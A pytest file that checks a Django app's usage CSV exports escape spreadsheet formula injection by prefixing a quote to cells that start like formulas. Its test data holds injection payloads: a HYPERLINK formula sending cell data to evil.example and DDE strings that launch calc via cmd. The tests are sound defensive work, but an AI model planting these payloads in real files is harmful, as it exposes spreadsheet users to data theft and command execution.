"""The usage CSV never hands a spreadsheet a formula: a member's text that starts like one (a key's name) is
written with a leading ``'`` (OWASP "CSV Injection"), in the one place its rows are written (billing.api.usage_csv)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from accounts.models import Scope
from accounts.services import create_api_key
from billing.ledger import grant_credits
from billing.spreadsheets import spreadsheet_text
from inference.models import Endpoint
from tests.lifecycle import run

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("unhashed_static_files", "priced_without_broker")]

PLANTED = {
    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "ci = prod": "ci = prod",  # a formula sign inside a name is only text
    "ci\r=1+1": "ci\r=1+1",  # a CR inside a name stays inside its cell: no row starts with what follows it
    "ci\n@SUM(1)": "ci\n@SUM(1)",
}


@pytest.fixture
def planted(tenant: dict[str, Any], builtin_endpoint: Endpoint) -> dict[str, Any]:
    """One request under a key named like each formula (and a plain name), so each shows as a row."""
    organization = tenant["organization"]
    grant_credits(organization=organization, amount_micros=50_000_000, reason="csv test")
    for name in PLANTED:
        api_key, _ = create_api_key(organization=organization, name=name, scopes=[Scope.INFERENCE], created_by=None)
        run(organization, builtin_endpoint, api_key=api_key, gpu_ms=1_000)
    return tenant


def key_names(text: str) -> dict[str, dict[str, str]]:
    return {row["key_name"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def assert_neutralised(rows: dict[str, dict[str, str]]) -> None:
    assert set(rows) == set(PLANTED.values())
    for row in rows.values():
        assert (row["requests"], row["gpu_ms"]) == ("1", "1000")  # numbers as they were
        assert row["endpoint"] == "platform/tiny-sd"


def test_the_api_export_writes_no_formula(planted: dict[str, Any]) -> None:
    response = planted["client"].get("/v1/usage", {"group_by": "day,endpoint,key", "format": "csv"})
    assert response.status_code == 200
    assert_neutralised(key_names(response.content.decode()))
    # The JSON report is data, not a spreadsheet: names as the members typed them.
    report = planted["client"].get("/v1/usage", {"group_by": "key"}).json()
    assert {row["key_name"] for row in report["data"]} == set(PLANTED)


def test_no_export_has_a_cell_that_starts_like_a_formula(planted: dict[str, Any]) -> None:
    """Every grouping, through the API and the dashboard's downloads (the same writer)."""
    browser = Client()
    browser.force_login(planted["user"])
    exports = [
        planted["client"].get("/v1/usage", {"group_by": group_by, "format": "csv"})
        for group_by in ("day", "key", "day,endpoint,key,gpu_class", "hour,key")
    ]
    exports += [
        browser.get("/dashboard/usage", {"format": "csv"}),
        browser.get("/dashboard/usage", {"format": "csv", "by": "end_user"}),
    ]
    for response in exports:
        assert response.status_code == 200
        for row in csv.reader(io.StringIO(response.content.decode(), newline="")):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))], row
            assert not [
                cell for cell in row if cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()
            ]


def test_only_text_that_starts_like_a_formula_is_changed() -> None:
    assert spreadsheet_text("=1+1") == "'=1+1"
    assert spreadsheet_text("") == ""
    assert spreadsheet_text("2026-01-01") == "2026-01-01"
    assert spreadsheet_text("platform/tiny-sd") == "platform/tiny-sd"
    assert spreadsheet_text(-350) == -350  # a negative amount is a number, not a formula
    assert spreadsheet_text(-1.5) == -1.5
    assert spreadsheet_text(None) is None
